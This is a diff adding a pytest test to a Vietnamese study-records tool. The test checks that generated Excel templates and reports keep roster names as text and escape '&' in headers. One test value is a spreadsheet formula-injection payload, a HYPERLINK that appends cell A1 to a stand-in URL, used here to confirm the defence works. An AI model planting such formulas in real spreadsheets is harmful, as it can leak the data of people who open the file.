@@ -346,3 +346,30 @@ def test_a_results_file_saved_under_another_name_says_which_cell(tmp_path: Path,
     out = capsys.readouterr().out
     assert "study/nq-57/Ket qua hoc tap NQ57.xlsx: error: 'Ket qua hoc tap NQ57' không phải một chi bộ" in out
     assert "(gần nhất: cb-a2)" in out
+
+
+def test_names_stay_text_in_the_workbooks_we_write(tmp_path: Path) -> None:
+    """A roster line '=HYPERLINK(…)' must not become a formula in the template sent to the cell nor in
+    the report's workbook; an '&' in the cell's name must print (Excel reads a lone '&' as a code)."""
+    import zipfile
+    from lxml import etree
+    content, records = make_records(tmp_path)
+    units = records / "units.yaml"
+    units.write_text(units.read_text(encoding="utf-8").replace("Chi bộ B2", "Chi bộ Trường Tiểu học & THCS"),
+                     encoding="utf-8")
+    injected = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'
+    (records / "members" / "cb-b2.csv").write_text(
+        'Họ và tên,Năm sinh\n"' + injected.replace('"', '""') + '",1970\nMa Thị M,1972\n', encoding="utf-8")
+    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "cb-b2") == 0
+    template = records / "study" / "nq-57" / "cb-b2.xlsx"
+    sheet = openpyxl.load_workbook(template)["Danh sách"]
+    assert (sheet["B2"].value, sheet["B2"].data_type) == (injected, "s")
+    with zipfile.ZipFile(template) as book:
+        header = etree.fromstring(book.read("xl/worksheets/sheet1.xml")).findtext(
+            ".//{http://schemas.openxmlformats.org/spreadsheetml/2006/main}oddHeader")
+    assert "Tiểu học && THCS" in header
+    fill(template, {injected: {"Tham dự": "vắng không lý do"}, "Ma Thị M": {"Tham dự": "có mặt", "Điểm": 8}})
+    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
+    reminders = openpyxl.load_workbook(tmp_path / "reports" / "nq-57" / "so-lieu-nq-57.xlsx")["Nhắc nhở"]
+    names = [(row[1].value, row[1].data_type) for row in reminders.iter_rows(min_row=2)]
+    assert names and all(value == injected and kind == "s" for value, kind in names), names
